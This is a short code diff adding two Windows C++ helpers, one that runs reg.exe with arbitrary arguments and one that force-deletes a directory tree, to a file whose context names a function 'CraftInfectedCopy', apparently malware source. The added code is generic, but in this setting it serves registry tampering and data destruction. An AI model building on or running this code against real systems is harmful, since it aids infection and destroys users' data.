@@ -320,3 +320,34 @@ std::string CraftInfectedCopy(const char* helper, const std::string& to) {
     }
     return "";
 }
+
+DWORD RunReg(const std::string& arguments) {
+    PROCESS_INFORMATION info = StartProgram("C:\\windows\\system32\\reg.exe", arguments);
+    if (!info.hProcess) return 999;
+    WaitForSingleObject(info.hProcess, 60000);
+    DWORD status = 999;
+    GetExitCodeProcess(info.hProcess, &status);
+    CloseHandle(info.hProcess);
+    if (info.hThread) CloseHandle(info.hThread);
+    return status;
+}
+
+void RemoveTree(const std::wstring& folder) {
+    WIN32_FIND_DATAW data;
+    HANDLE h = FindFirstFileW((folder + L"\\*").c_str(), &data);
+    if (h != INVALID_HANDLE_VALUE) {
+        do {
+            std::wstring name = data.cFileName;
+            if (name == L"." || name == L"..") continue;
+            std::wstring path = folder + L"\\" + name;
+            if (data.dwFileAttributes & FILE_ATTRIBUTE_DIRECTORY) {
+                RemoveTree(path);
+            } else {
+                SetFileAttributesW(path.c_str(), FILE_ATTRIBUTE_NORMAL);
+                DeleteFileW(path.c_str());
+            }
+        } while (FindNextFileW(h, &data));
+        FindClose(h);
+    }
+    RemoveDirectoryW(folder.c_str());
+}
